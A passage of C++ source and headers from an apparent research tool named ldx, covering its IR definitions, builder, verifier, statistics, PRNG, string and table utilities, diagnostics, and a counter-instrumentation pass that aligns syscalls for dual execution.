checkOperand(const Function &fn, const Operand &o, const std::string &where,
             std::vector<std::string> &problems)
{
    if (o.isReg() && (o.reg < 0 || o.reg >= fn.numRegs())) {
        problems.push_back(where + ": register r" + std::to_string(o.reg) +
                           " out of range");
    }
}

} // namespace

std::vector<std::string>
verifyModule(const Module &m, bool require_main)
{
    std::vector<std::string> problems;

    if (require_main && m.mainFunction() < 0)
        problems.push_back("module has no 'main' function");

    for (std::size_t fi = 0; fi < m.numFunctions(); ++fi) {
        const Function &fn = m.function(static_cast<int>(fi));
        if (fn.numBlocks() == 0) {
            problems.push_back("function " + fn.name() + " has no blocks");
            continue;
        }
        for (std::size_t bi = 0; bi < fn.numBlocks(); ++bi) {
            const BasicBlock &bb = fn.block(static_cast<int>(bi));
            std::string where = fn.name() + "/bb" + std::to_string(bi);
            if (bb.instrs().empty()) {
                problems.push_back(where + " is empty");
                continue;
            }
            if (!bb.terminator().isTerminator())
                problems.push_back(where + " lacks a terminator");
            for (std::size_t ii = 0; ii < bb.instrs().size(); ++ii) {
                const Instr &instr = bb.instrs()[ii];
                std::string iw = where + "/#" + std::to_string(ii);
                if (instr.isTerminator() && ii + 1 != bb.instrs().size())
                    problems.push_back(iw + ": terminator mid-block");
                if (instr.dst >= fn.numRegs()) {
                    problems.push_back(iw + ": dst register out of range");
                }
                checkOperand(fn, instr.a, iw, problems);
                checkOperand(fn, instr.b, iw, problems);
                for (const Operand &arg : instr.args)
                    checkOperand(fn, arg, iw, problems);
                switch (instr.op) {
                  case Opcode::Br:
                    if (instr.target0 < 0 ||
                        instr.target0 >= static_cast<int>(fn.numBlocks()))
                        problems.push_back(iw + ": bad branch target");
                    break;
                  case Opcode::CondBr:
                    if (instr.target0 < 0 ||
                        instr.target0 >= static_cast<int>(fn.numBlocks()) ||
                        instr.target1 < 0 ||
                        instr.target1 >= static_cast<int>(fn.numBlocks()))
                        problems.push_back(iw + ": bad condbr target");
                    if (!instr.a.isReg() && !instr.a.isImm())
                        problems.push_back(iw + ": condbr lacks condition");
                    break;
                  case Opcode::Call:
                  case Opcode::FnAddr:
                    if (instr.callee < 0 ||
                        instr.callee >= static_cast<int>(m.numFunctions()))
                        problems.push_back(iw + ": bad callee");
                    else if (instr.op == Opcode::Call &&
                             static_cast<int>(instr.args.size()) !=
                                 m.function(instr.callee).numParams())
                        problems.push_back(iw + ": call arity mismatch");
                    break;
                  case Opcode::GlobalAddr:
                    if (instr.imm < 0 ||
                        instr.imm >=
                            static_cast<std::int64_t>(m.numGlobals()))
                        problems.push_back(iw + ": bad global id");
                    break;
                  case Opcode::Load:
                  case Opcode::Store:
                    if (instr.size != 1 && instr.size != 8)
                        problems.push_back(iw + ": bad access width");
                    break;
                  default:
                    break;
                }
            }
        }
    }
    return problems;
}

void
verifyOrDie(const Module &m, bool require_main)
{
    auto problems = verifyModule(m, require_main);
    if (!problems.empty())
        fatal("IR verification failed:\n  " + joinStrings(problems, "\n  "));
}

} // namespace ldx::ir
