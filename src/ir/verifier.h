/**
 * @file
 * Structural well-formedness checks for IR modules. Run after codegen
 * and after instrumentation; catches malformed CFGs early.
 */
#pragma once

#include <string>
#include <vector>

#include "ir/ir.h"

namespace ldx::ir {

/**
 * Verify @p m. Returns the list of problems found (empty when valid).
 *
 * Checks: every block is non-empty and ends in exactly one terminator,
 * no terminator appears mid-block, branch targets and callees are in
 * range, register indices are within the function's register count,
 * Load/Store widths are 1 or 8, and the entry function exists if
 * @p require_main.
 */
std::vector<std::string> verifyModule(const Module &m,
                                      bool require_main = true);

/** Verify and fatal() with a combined message on failure. */
void verifyOrDie(const Module &m, bool require_main = true);

} // namespace ldx::ir
