#include "ir/builder.h"

#include "support/diag.h"

namespace ldx::ir {

Instr &
IRBuilder::append(Instr instr)
{
    instr.loc = loc_;
    BasicBlock &bb = fn_.block(block_);
    checkInvariant(!bb.isTerminated(),
                   "appending to a terminated block in " + fn_.name());
    bb.instrs().push_back(std::move(instr));
    return bb.instrs().back();
}

int
IRBuilder::emitConst(std::int64_t v)
{
    Instr i;
    i.op = Opcode::Const;
    i.dst = fn_.newReg();
    i.imm = v;
    return append(std::move(i)).dst;
}

int
IRBuilder::emitMove(Operand src)
{
    Instr i;
    i.op = Opcode::Move;
    i.dst = fn_.newReg();
    i.a = src;
    return append(std::move(i)).dst;
}

void
IRBuilder::emitMoveTo(int dst_reg, Operand src)
{
    Instr i;
    i.op = Opcode::Move;
    i.dst = dst_reg;
    i.a = src;
    append(std::move(i));
}

int
IRBuilder::emitBinary(Opcode op, Operand a, Operand b)
{
    Instr i;
    i.op = op;
    i.dst = fn_.newReg();
    i.a = a;
    i.b = b;
    return append(std::move(i)).dst;
}

int
IRBuilder::emitUnary(Opcode op, Operand a)
{
    Instr i;
    i.op = op;
    i.dst = fn_.newReg();
    i.a = a;
    return append(std::move(i)).dst;
}

int
IRBuilder::emitLoad(Operand addr, int size)
{
    Instr i;
    i.op = Opcode::Load;
    i.dst = fn_.newReg();
    i.a = addr;
    i.size = size;
    return append(std::move(i)).dst;
}

void
IRBuilder::emitStore(Operand addr, Operand val, int size)
{
    Instr i;
    i.op = Opcode::Store;
    i.a = addr;
    i.b = val;
    i.size = size;
    append(std::move(i));
}

int
IRBuilder::emitAlloca(std::int64_t size)
{
    Instr i;
    i.op = Opcode::Alloca;
    i.dst = fn_.newReg();
    i.imm = size;
    return append(std::move(i)).dst;
}

int
IRBuilder::emitGlobalAddr(int global_id)
{
    Instr i;
    i.op = Opcode::GlobalAddr;
    i.dst = fn_.newReg();
    i.imm = global_id;
    return append(std::move(i)).dst;
}

int
IRBuilder::emitCall(int callee, std::vector<Operand> args)
{
    Instr i;
    i.op = Opcode::Call;
    i.dst = fn_.newReg();
    i.callee = callee;
    i.args = std::move(args);
    return append(std::move(i)).dst;
}

int
IRBuilder::emitICall(Operand fnptr, std::vector<Operand> args)
{
    Instr i;
    i.op = Opcode::ICall;
    i.dst = fn_.newReg();
    i.a = fnptr;
    i.args = std::move(args);
    return append(std::move(i)).dst;
}

int
IRBuilder::emitFnAddr(int callee)
{
    Instr i;
    i.op = Opcode::FnAddr;
    i.dst = fn_.newReg();
    i.callee = callee;
    return append(std::move(i)).dst;
}

int
IRBuilder::emitLibCall(LibRoutine r, std::vector<Operand> args)
{
    Instr i;
    i.op = Opcode::LibCall;
    i.dst = fn_.newReg();
    i.imm = static_cast<std::int64_t>(r);
    i.args = std::move(args);
    return append(std::move(i)).dst;
}

int
IRBuilder::emitSyscall(std::int64_t sys_no, std::vector<Operand> args)
{
    Instr i;
    i.op = Opcode::Syscall;
    i.dst = fn_.newReg();
    i.imm = sys_no;
    i.args = std::move(args);
    return append(std::move(i)).dst;
}

void
IRBuilder::emitBr(int target)
{
    Instr i;
    i.op = Opcode::Br;
    i.target0 = target;
    append(std::move(i));
}

void
IRBuilder::emitCondBr(Operand cond, int then_bb, int else_bb)
{
    Instr i;
    i.op = Opcode::CondBr;
    i.a = cond;
    i.target0 = then_bb;
    i.target1 = else_bb;
    append(std::move(i));
}

void
IRBuilder::emitRet(Operand val)
{
    Instr i;
    i.op = Opcode::Ret;
    i.a = val;
    append(std::move(i));
}

void
IRBuilder::emitCntAdd(std::int64_t delta)
{
    Instr i;
    i.op = Opcode::CntAdd;
    i.imm = delta;
    append(std::move(i));
}

void
IRBuilder::emitSyncBarrier(std::int64_t site_id, std::int64_t reset_delta)
{
    Instr i;
    i.op = Opcode::SyncBarrier;
    i.imm = site_id;
    i.a = Operand::makeImm(reset_delta);
    append(std::move(i));
}

void
IRBuilder::emitCntPush()
{
    Instr i;
    i.op = Opcode::CntPush;
    append(std::move(i));
}

void
IRBuilder::emitCntPop()
{
    Instr i;
    i.op = Opcode::CntPop;
    append(std::move(i));
}

} // namespace ldx::ir
