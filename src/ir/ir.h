/**
 * @file
 * The ldx intermediate representation.
 *
 * A small register-machine IR with explicit basic blocks. It is the
 * substrate the paper's counter-instrumentation algorithms (Alg. 1 and
 * Alg. 3) operate on: functions carry CFGs, calls may be direct or
 * indirect, and the syscall boundary is an explicit opcode. The
 * instrumenter inserts the counter opcodes (CntAdd, SyncBarrier,
 * CntPush, CntPop); an uninstrumented module never contains them.
 *
 * Values are 64-bit integers. Memory is flat and byte addressable
 * (see vm/memory.h); Load/Store carry an access width of 1 or 8 bytes.
 */
#pragma once

#include <cstdint>
#include <memory>
#include <string>
#include <vector>

namespace ldx::ir {

/** Source position carried through from the MiniC frontend. */
struct SourceLoc
{
    int line = 0;
    int col = 0;
};

/** Instruction opcodes. */
enum class Opcode : std::uint8_t
{
    // Data movement.
    Const,      ///< dst = imm
    Move,       ///< dst = a
    // Arithmetic / logic (dst = a OP b unless unary).
    Add, Sub, Mul, Div, Rem,
    And, Or, Xor, Shl, Shr,
    Neg,        ///< dst = -a
    Not,        ///< dst = ~a
    // Comparisons produce 0/1.
    CmpEq, CmpNe, CmpLt, CmpLe, CmpGt, CmpGe,
    // Memory.
    Load,       ///< dst = mem[a] (width = size)
    Store,      ///< mem[a] = b  (width = size)
    Alloca,     ///< dst = address of imm bytes of fresh stack space
    GlobalAddr, ///< dst = address of global #imm
    // Calls.
    Call,       ///< dst = callee(args...)           (direct)
    ICall,      ///< dst = (*a)(args...)             (indirect)
    FnAddr,     ///< dst = address token of function #callee
    LibCall,    ///< dst = library routine #imm(args...)
    Syscall,    ///< dst = syscall #imm(args...)
    // Terminators.
    Br,         ///< goto target0
    CondBr,     ///< if (a) goto target0 else goto target1
    Ret,        ///< return a (or void when a is absent)
    // Counter instrumentation (inserted by instrument::CounterInstrumenter).
    CntAdd,     ///< cnt += imm (imm may be negative on backedges)
    SyncBarrier,///< iteration rendezvous at backedge site #imm
    CntPush,    ///< push cnt on the counter stack; cnt = 0
    CntPop,     ///< pop the counter stack into cnt
};

/** Number of opcodes (CntPop is last). */
inline constexpr int kNumOpcodes = static_cast<int>(Opcode::CntPop) + 1;

/** True if @p op ends a basic block. */
bool isTerminator(Opcode op);

/** Human-readable mnemonic. */
const char *opcodeName(Opcode op);

/** An instruction operand: a virtual register or an immediate. */
struct Operand
{
    enum class Kind : std::uint8_t { None, Reg, Imm };

    Kind kind = Kind::None;
    int reg = -1;
    std::int64_t imm = 0;

    static Operand none() { return Operand{}; }

    static Operand
    makeReg(int r)
    {
        Operand o;
        o.kind = Kind::Reg;
        o.reg = r;
        return o;
    }

    static Operand
    makeImm(std::int64_t v)
    {
        Operand o;
        o.kind = Kind::Imm;
        o.imm = v;
        return o;
    }

    bool isReg() const { return kind == Kind::Reg; }
    bool isImm() const { return kind == Kind::Imm; }
    bool isNone() const { return kind == Kind::None; }
};

/** Library routines executed natively by the VM (see vm/machine.cc). */
enum class LibRoutine : std::int64_t
{
    Memcpy,   ///< memcpy(dst, src, n) -> dst
    Memset,   ///< memset(dst, byte, n) -> dst
    Strlen,   ///< strlen(s)
    Strcmp,   ///< strcmp(a, b)
    Strcpy,   ///< strcpy(dst, src) -> dst
    Strcat,   ///< strcat(dst, src) -> dst
    Atoi,     ///< atoi(s)
    Itoa,     ///< itoa(v, buf) -> buf (decimal, NUL terminated)
    Malloc,   ///< malloc(n) -> heap pointer
    Free,     ///< free(p)
};

/** Name of a library routine. */
const char *libRoutineName(LibRoutine r);

/**
 * One IR instruction. A fat struct covering all opcodes keeps the
 * interpreter loop simple and cache friendly; unused fields stay at
 * their defaults.
 */
struct Instr
{
    Opcode op = Opcode::Const;
    int dst = -1;                 ///< destination register or -1
    Operand a;                    ///< first operand
    Operand b;                    ///< second operand
    std::vector<Operand> args;    ///< call/syscall arguments
    int callee = -1;              ///< function index (Call / FnAddr)
    std::int64_t imm = 0;         ///< Const / CntAdd / sys no / lib id /
                                  ///< alloca size / global id / site id
    int size = 8;                 ///< Load/Store width in bytes (1 or 8)
    int target0 = -1;             ///< branch target block
    int target1 = -1;             ///< CondBr false target
    int site = -1;                ///< static site id (instrumentation)
    SourceLoc loc;                ///< original source position

    bool isTerminator() const { return ir::isTerminator(op); }
};

/** A basic block: straight-line instructions ending in a terminator. */
class BasicBlock
{
  public:
    explicit BasicBlock(int id)
        : id_(id)
    {}

    int id() const { return id_; }

    std::vector<Instr> &instrs() { return instrs_; }
    const std::vector<Instr> &instrs() const { return instrs_; }

    /** The terminator (last instruction). Block must be non-empty. */
    const Instr &terminator() const;
    Instr &terminator();

    /** Successor block ids derived from the terminator. */
    std::vector<int> successors() const;

    /** True once a terminator has been appended. */
    bool isTerminated() const;

  private:
    int id_;
    std::vector<Instr> instrs_;
};

/** A function: parameters arrive in registers r0..r(nparams-1). */
class Function
{
  public:
    Function(int id, std::string name, int num_params)
        : id_(id), name_(std::move(name)), numParams_(num_params)
    {}

    int id() const { return id_; }
    const std::string &name() const { return name_; }
    int numParams() const { return numParams_; }

    /** Number of virtual registers in use. */
    int numRegs() const { return numRegs_; }

    /** Allocate a fresh virtual register. */
    int
    newReg()
    {
        return numRegs_++;
    }

    /** Reserve at least @p n registers (used by codegen for params). */
    void
    reserveRegs(int n)
    {
        if (n > numRegs_)
            numRegs_ = n;
    }

    /** Append a new empty block and return it. */
    BasicBlock &newBlock();

    BasicBlock &block(int id) { return *blocks_[id]; }
    const BasicBlock &block(int id) const { return *blocks_[id]; }
    std::size_t numBlocks() const { return blocks_.size(); }

    /** Entry block id (always 0). */
    static constexpr int entryBlockId = 0;

    /** Predecessor lists recomputed from terminators. */
    std::vector<std::vector<int>> predecessors() const;

  private:
    int id_;
    std::string name_;
    int numParams_;
    int numRegs_ = 0;
    std::vector<std::unique_ptr<BasicBlock>> blocks_;
};

/** A global variable: fixed size with optional initial bytes. */
struct Global
{
    std::string name;
    std::int64_t size = 8;
    std::string init; ///< initial bytes (zero padded to size)
};

/** A whole program. */
class Module
{
  public:
    /** Create a function; names must be unique. */
    Function &addFunction(const std::string &name, int num_params);

    Function &function(int id) { return *functions_[id]; }
    const Function &function(int id) const { return *functions_[id]; }
    std::size_t numFunctions() const { return functions_.size(); }

    /** Lookup by name; returns nullptr when absent. */
    Function *findFunction(const std::string &name);
    const Function *findFunction(const std::string &name) const;

    /** Add a global; returns its id. */
    int addGlobal(const std::string &name, std::int64_t size,
                  std::string init = "");

    const Global &global(int id) const { return globals_[id]; }
    std::size_t numGlobals() const { return globals_.size(); }

    /** Lookup global id by name; -1 when absent. */
    int findGlobal(const std::string &name) const;

    /** Id of the entry function ("main"); -1 when absent. */
    int mainFunction() const;

  private:
    std::vector<std::unique_ptr<Function>> functions_;
    std::vector<Global> globals_;
};

} // namespace ldx::ir
