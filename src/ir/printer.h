/**
 * @file
 * Textual dump of IR modules and functions, for debugging and for
 * golden tests of the instrumenter's output.
 */
#pragma once

#include <ostream>
#include <string>

#include "ir/ir.h"

namespace ldx::ir {

/** Print one instruction (no trailing newline). */
std::string formatInstr(const Module &m, const Instr &instr);

/** Print a whole function. */
void printFunction(std::ostream &os, const Module &m, const Function &fn);

/** Print a whole module. */
void printModule(std::ostream &os, const Module &m);

/** Render a module to a string. */
std::string moduleToString(const Module &m);

} // namespace ldx::ir
