/**
 * @file
 * Convenience builder for constructing IR, used by the MiniC code
 * generator, the instrumenter, and hand-built test programs.
 */
#pragma once

#include <cstdint>
#include <vector>

#include "ir/ir.h"

namespace ldx::ir {

/** Appends instructions to a current block of a function. */
class IRBuilder
{
  public:
    explicit IRBuilder(Function &fn)
        : fn_(fn)
    {}

    /** Switch the insertion point to block @p id. */
    void setBlock(int id) { block_ = id; }
    int currentBlock() const { return block_; }

    Function &function() { return fn_; }

    /** Set the source location stamped on subsequent instructions. */
    void setLoc(SourceLoc loc) { loc_ = loc; }

    // -- Straight-line instructions (each returns the dst register). --
    int emitConst(std::int64_t v);
    int emitMove(Operand src);
    /** Move @p src into an existing register (codegen "phi" slots). */
    void emitMoveTo(int dst_reg, Operand src);
    int emitBinary(Opcode op, Operand a, Operand b);
    int emitUnary(Opcode op, Operand a);
    int emitLoad(Operand addr, int size = 8);
    void emitStore(Operand addr, Operand val, int size = 8);
    int emitAlloca(std::int64_t size);
    int emitGlobalAddr(int global_id);
    int emitCall(int callee, std::vector<Operand> args);
    int emitICall(Operand fnptr, std::vector<Operand> args);
    int emitFnAddr(int callee);
    int emitLibCall(LibRoutine r, std::vector<Operand> args);
    int emitSyscall(std::int64_t sys_no, std::vector<Operand> args);

    // -- Terminators. --
    void emitBr(int target);
    void emitCondBr(Operand cond, int then_bb, int else_bb);
    void emitRet(Operand val = Operand::none());

    // -- Counter opcodes (used by the instrumenter and tests). --
    void emitCntAdd(std::int64_t delta);
    void emitSyncBarrier(std::int64_t site_id, std::int64_t reset_delta);
    void emitCntPush();
    void emitCntPop();

    /** Shorthand operand constructors. */
    static Operand reg(int r) { return Operand::makeReg(r); }
    static Operand imm(std::int64_t v) { return Operand::makeImm(v); }

  private:
    Instr &append(Instr instr);

    Function &fn_;
    int block_ = Function::entryBlockId;
    SourceLoc loc_;
};

} // namespace ldx::ir
