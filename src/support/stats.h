/**
 * @file
 * Running statistics used by the benchmark harnesses: min/max/mean,
 * sample standard deviation, and geometric mean — the aggregates the
 * paper reports in Tables 2/4 and Figure 6.
 */
#pragma once

#include <cmath>
#include <cstdint>
#include <limits>
#include <vector>

namespace ldx {

/** Accumulates a stream of samples and reports summary statistics. */
class RunningStats
{
  public:
    /** Add one sample. */
    void
    add(double x)
    {
        samples_.push_back(x);
        sum_ += x;
        if (x < min_)
            min_ = x;
        if (x > max_)
            max_ = x;
    }

    std::size_t count() const { return samples_.size(); }
    double min() const { return samples_.empty() ? 0.0 : min_; }
    double max() const { return samples_.empty() ? 0.0 : max_; }

    double
    mean() const
    {
        return samples_.empty() ? 0.0 : sum_ / samples_.size();
    }

    /** Sample (n-1) standard deviation; 0 with fewer than 2 samples. */
    double
    stddev() const
    {
        if (samples_.size() < 2)
            return 0.0;
        double m = mean();
        double acc = 0.0;
        for (double x : samples_)
            acc += (x - m) * (x - m);
        return std::sqrt(acc / (samples_.size() - 1));
    }

    /** Geometric mean; samples must be positive. */
    double
    geomean() const
    {
        if (samples_.empty())
            return 0.0;
        double acc = 0.0;
        for (double x : samples_)
            acc += std::log(x);
        return std::exp(acc / samples_.size());
    }

  private:
    std::vector<double> samples_;
    double sum_ = 0.0;
    double min_ = std::numeric_limits<double>::infinity();
    double max_ = -std::numeric_limits<double>::infinity();
};

} // namespace ldx
