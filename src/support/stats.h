/**
 * @file
 * Running statistics used by the benchmark harnesses: min/max/mean,
 * sample standard deviation, percentiles, and geometric mean — the
 * aggregates the paper reports in Tables 2/4 and Figure 6.
 */
#pragma once

#include <algorithm>
#include <cmath>
#include <cstdint>
#include <limits>
#include <vector>

namespace ldx {

/** Accumulates a stream of samples and reports summary statistics. */
class RunningStats
{
  public:
    /** Add one sample. */
    void
    add(double x)
    {
        samples_.push_back(x);
        sum_ += x;
        if (x < min_)
            min_ = x;
        if (x > max_)
            max_ = x;
    }

    std::size_t count() const { return samples_.size(); }
    double min() const { return samples_.empty() ? 0.0 : min_; }
    double max() const { return samples_.empty() ? 0.0 : max_; }

    double
    mean() const
    {
        return samples_.empty() ? 0.0 : sum_ / samples_.size();
    }

    /** Sample (n-1) standard deviation; 0 with fewer than 2 samples. */
    double
    stddev() const
    {
        if (samples_.size() < 2)
            return 0.0;
        double m = mean();
        double acc = 0.0;
        for (double x : samples_)
            acc += (x - m) * (x - m);
        return std::sqrt(acc / (samples_.size() - 1));
    }

    /**
     * p-th percentile (p in [0, 100]), linearly interpolated between
     * order statistics. Sorts a copy — fine at bench sample counts.
     * With zero samples every percentile is deterministically 0.0
     * (as are min/max/mean/stddev/geomean) — profiler and exporter
     * consumers can report an idle stream without special-casing.
     */
    double
    percentile(double p) const
    {
        if (samples_.empty())
            return 0.0;
        std::vector<double> sorted(samples_);
        std::sort(sorted.begin(), sorted.end());
        if (p <= 0.0)
            return sorted.front();
        if (p >= 100.0)
            return sorted.back();
        double rank = p / 100.0 * (sorted.size() - 1);
        std::size_t lo = static_cast<std::size_t>(rank);
        if (lo + 1 >= sorted.size())
            return sorted.back();
        return sorted[lo] + (rank - lo) * (sorted[lo + 1] - sorted[lo]);
    }

    double p50() const { return percentile(50.0); }
    double p95() const { return percentile(95.0); }
    double p99() const { return percentile(99.0); }

    /**
     * Geometric mean. Zero samples — or any non-positive sample,
     * whose log would poison the accumulator with -inf/NaN — report
     * 0.0 deterministically.
     */
    double
    geomean() const
    {
        if (samples_.empty())
            return 0.0;
        double acc = 0.0;
        for (double x : samples_) {
            if (!(x > 0.0))
                return 0.0;
            acc += std::log(x);
        }
        return std::exp(acc / samples_.size());
    }

  private:
    std::vector<double> samples_;
    double sum_ = 0.0;
    double min_ = std::numeric_limits<double>::infinity();
    double max_ = -std::numeric_limits<double>::infinity();
};

} // namespace ldx
