/**
 * @file
 * Deterministic pseudo-random number generation.
 *
 * All stochastic behaviour in the library (workload inputs, mutation
 * choices, virtual-OS nondeterminism) flows through SplitMix64 so
 * experiments are reproducible from a single seed.
 */
#pragma once

#include <cstdint>
#include <limits>

namespace ldx {

/** SplitMix64 generator: tiny, fast, and good enough for workloads. */
class Prng
{
  public:
    explicit Prng(std::uint64_t seed = 0x9e3779b97f4a7c15ULL)
        : state_(seed)
    {}

    /** Next raw 64-bit value. */
    std::uint64_t
    next()
    {
        std::uint64_t z = (state_ += 0x9e3779b97f4a7c15ULL);
        z = (z ^ (z >> 30)) * 0xbf58476d1ce4e5b9ULL;
        z = (z ^ (z >> 27)) * 0x94d049bb133111ebULL;
        return z ^ (z >> 31);
    }

    /** Uniform value in [0, bound). @p bound must be nonzero. */
    std::uint64_t
    below(std::uint64_t bound)
    {
        return next() % bound;
    }

    /** Uniform value in [lo, hi] inclusive. */
    std::int64_t
    range(std::int64_t lo, std::int64_t hi)
    {
        return lo + static_cast<std::int64_t>(
                below(static_cast<std::uint64_t>(hi - lo + 1)));
    }

    /** Bernoulli draw with probability @p num / @p den. */
    bool
    chance(std::uint64_t num, std::uint64_t den)
    {
        return below(den) < num;
    }

    /** Reseed in place. */
    void reseed(std::uint64_t seed) { state_ = seed; }

  private:
    std::uint64_t state_;
};

} // namespace ldx
