#include "support/strings.h"

#include <cctype>
#include <cstdio>

namespace ldx {

std::vector<std::string>
splitString(std::string_view s, char sep)
{
    std::vector<std::string> out;
    std::size_t start = 0;
    for (std::size_t i = 0; i <= s.size(); ++i) {
        if (i == s.size() || s[i] == sep) {
            out.emplace_back(s.substr(start, i - start));
            start = i + 1;
        }
    }
    return out;
}

std::string
joinStrings(const std::vector<std::string> &parts, std::string_view sep)
{
    std::string out;
    for (std::size_t i = 0; i < parts.size(); ++i) {
        if (i)
            out += sep;
        out += parts[i];
    }
    return out;
}

bool
startsWith(std::string_view s, std::string_view prefix)
{
    return s.size() >= prefix.size() &&
           s.substr(0, prefix.size()) == prefix;
}

bool
endsWith(std::string_view s, std::string_view suffix)
{
    return s.size() >= suffix.size() &&
           s.substr(s.size() - suffix.size()) == suffix;
}

std::string
trimString(std::string_view s)
{
    std::size_t b = 0;
    std::size_t e = s.size();
    while (b < e && std::isspace(static_cast<unsigned char>(s[b])))
        ++b;
    while (e > b && std::isspace(static_cast<unsigned char>(s[e - 1])))
        --e;
    return std::string(s.substr(b, e - b));
}

std::string
escapeBytes(std::string_view bytes, std::size_t max_len)
{
    std::string out;
    std::size_t n = std::min(bytes.size(), max_len);
    for (std::size_t i = 0; i < n; ++i) {
        unsigned char c = static_cast<unsigned char>(bytes[i]);
        if (std::isprint(c) && c != '\\') {
            out += static_cast<char>(c);
        } else {
            char buf[8];
            std::snprintf(buf, sizeof(buf), "\\x%02x", c);
            out += buf;
        }
    }
    if (bytes.size() > max_len)
        out += "...";
    return out;
}

} // namespace ldx
