/**
 * @file
 * Plain-text table renderer used by the benchmark binaries to print
 * paper-style tables (Table 1..4) with aligned columns.
 */
#pragma once

#include <ostream>
#include <string>
#include <vector>

namespace ldx {

/** Column-aligned text table with a header row and separator rules. */
class TextTable
{
  public:
    /** Construct with header cells. */
    explicit TextTable(std::vector<std::string> header);

    /** Append a data row; must have the same arity as the header. */
    void addRow(std::vector<std::string> row);

    /** Append a horizontal rule before the next row. */
    void addRule();

    /** Render with single-space-padded pipe separators. */
    void print(std::ostream &os) const;

  private:
    std::vector<std::string> header_;
    std::vector<std::vector<std::string>> rows_; // empty row == rule
};

/** Format @p value with @p digits fractional digits. */
std::string formatDouble(double value, int digits = 2);

/** Format @p value as a percentage with @p digits fractional digits. */
std::string formatPercent(double value, int digits = 2);

} // namespace ldx
