#include "support/diag.h"

namespace ldx {

void
fatal(const std::string &msg)
{
    throw FatalError(msg);
}

void
panic(const std::string &msg)
{
    throw PanicError("ldx internal error: " + msg);
}

} // namespace ldx
