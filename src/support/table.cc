#include "support/table.h"

#include <algorithm>
#include <cstdio>

#include "support/diag.h"

namespace ldx {

TextTable::TextTable(std::vector<std::string> header)
    : header_(std::move(header))
{}

void
TextTable::addRow(std::vector<std::string> row)
{
    if (row.size() != header_.size())
        panic("TextTable row arity mismatch");
    rows_.push_back(std::move(row));
}

void
TextTable::addRule()
{
    rows_.emplace_back(); // sentinel
}

void
TextTable::print(std::ostream &os) const
{
    std::vector<std::size_t> width(header_.size(), 0);
    auto widen = [&](const std::vector<std::string> &row) {
        for (std::size_t i = 0; i < row.size(); ++i)
            width[i] = std::max(width[i], row[i].size());
    };
    widen(header_);
    for (const auto &row : rows_) {
        if (!row.empty())
            widen(row);
    }

    auto rule = [&]() {
        os << '+';
        for (std::size_t w : width)
            os << std::string(w + 2, '-') << '+';
        os << '\n';
    };
    auto emit = [&](const std::vector<std::string> &row) {
        os << '|';
        for (std::size_t i = 0; i < row.size(); ++i) {
            os << ' ' << row[i]
               << std::string(width[i] - row[i].size(), ' ') << " |";
        }
        os << '\n';
    };

    rule();
    emit(header_);
    rule();
    for (const auto &row : rows_) {
        if (row.empty())
            rule();
        else
            emit(row);
    }
    rule();
}

std::string
formatDouble(double value, int digits)
{
    char buf[64];
    std::snprintf(buf, sizeof(buf), "%.*f", digits, value);
    return buf;
}

std::string
formatPercent(double value, int digits)
{
    char buf[64];
    std::snprintf(buf, sizeof(buf), "%.*f%%", digits, value * 100.0);
    return buf;
}

} // namespace ldx
