/**
 * @file
 * Small string utilities shared across the library.
 */
#pragma once

#include <string>
#include <string_view>
#include <vector>

namespace ldx {

/** Split @p s on @p sep; empty fields are preserved. */
std::vector<std::string> splitString(std::string_view s, char sep);

/** Join @p parts with @p sep. */
std::string joinStrings(const std::vector<std::string> &parts,
                        std::string_view sep);

/** True if @p s begins with @p prefix. */
bool startsWith(std::string_view s, std::string_view prefix);

/** True if @p s ends with @p suffix. */
bool endsWith(std::string_view s, std::string_view suffix);

/** Strip leading and trailing ASCII whitespace. */
std::string trimString(std::string_view s);

/** Render a byte buffer with non-printables escaped as \xNN. */
std::string escapeBytes(std::string_view bytes, std::size_t max_len = 64);

} // namespace ldx
