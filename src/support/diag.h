/**
 * @file
 * Diagnostics: fatal/panic error reporting and checked assertions.
 *
 * Follows the gem5 convention: panic() is for internal invariant
 * violations (library bugs), fatal() is for user errors (bad programs,
 * bad configuration). Both throw typed exceptions rather than abort so
 * the test suite can assert on failure behaviour.
 */
#pragma once

#include <sstream>
#include <stdexcept>
#include <string>

namespace ldx {

/** Error caused by invalid user input (bad source program, config). */
class FatalError : public std::runtime_error
{
  public:
    explicit FatalError(const std::string &msg)
        : std::runtime_error(msg)
    {}
};

/** Error caused by an internal invariant violation (a bug in ldx). */
class PanicError : public std::logic_error
{
  public:
    explicit PanicError(const std::string &msg)
        : std::logic_error(msg)
    {}
};

/** Report a user-level error. Never returns. */
[[noreturn]] void fatal(const std::string &msg);

/** Report an internal invariant violation. Never returns. */
[[noreturn]] void panic(const std::string &msg);

/** Panic with context unless @p cond holds. */
inline void
checkInvariant(bool cond, const std::string &msg)
{
    if (!cond)
        panic(msg);
}

} // namespace ldx
