/**
 * @file
 * The paper's counter instrumentation (Algorithms 1 and 3, §6).
 *
 * After the pass runs, the module maintains at runtime a per-thread
 * counter with the property that, at any syscall, the counter value
 * equals the maximum number of syscalls along any acyclic path from
 * program entry to that syscall — identical across executions that
 * reach the same point, regardless of which branches they took.
 *
 * Mechanics:
 *  - `cnt += 1` is inserted before every syscall;
 *  - non-loop CFG edges where the static counter value changes get a
 *    compensating `cnt += delta` (edge splitting);
 *  - calls to non-recursive functions contribute their statically
 *    known total increment FCNT (realized by the callee's own
 *    instrumentation as it runs);
 *  - loop back edges get a rendezvous barrier followed by a counter
 *    reset to the loop-header value; loop exit edges raise the
 *    counter above every in-loop value (Algorithm 3);
 *  - indirect calls and calls to recursive functions save the counter
 *    on a stack and reset it to zero, restoring on return (§6), so
 *    alignment inside starts afresh and the caller needs no FCNT.
 *
 * Every syscall and barrier receives a unique static site id; the
 * dual-execution engine aligns on (counter value, site id).
 */
#pragma once

#include <cstdint>
#include <map>
#include <string>
#include <vector>

#include "ir/ir.h"

namespace ldx::instrument {

/** What a static site id refers to. */
struct SiteInfo
{
    int id = -1;
    int fn = -1;
    bool isBarrier = false;
    std::int64_t sysNo = -1;  ///< syscall number (-1 for barriers)
    ir::SourceLoc loc;
};

/** Table 1 instrumentation statistics for one module. */
struct InstrumentStats
{
    std::uint64_t originalInstrs = 0;
    std::uint64_t insertedOps = 0;      ///< "Inst." column
    int loops = 0;                      ///< instrumented loops
    int recursiveFunctions = 0;         ///< "Recur." column
    int indirectCallSites = 0;          ///< "FPTR" column
    int syscallSites = 0;               ///< "Total" syscalls column
    std::int64_t maxStaticCnt = 0;      ///< "Max. Cnt." (FCNT of main)

    /** Fraction of instructions added by instrumentation. */
    double
    instrumentedRatio() const
    {
        return originalInstrs
            ? static_cast<double>(insertedOps) /
              static_cast<double>(originalInstrs)
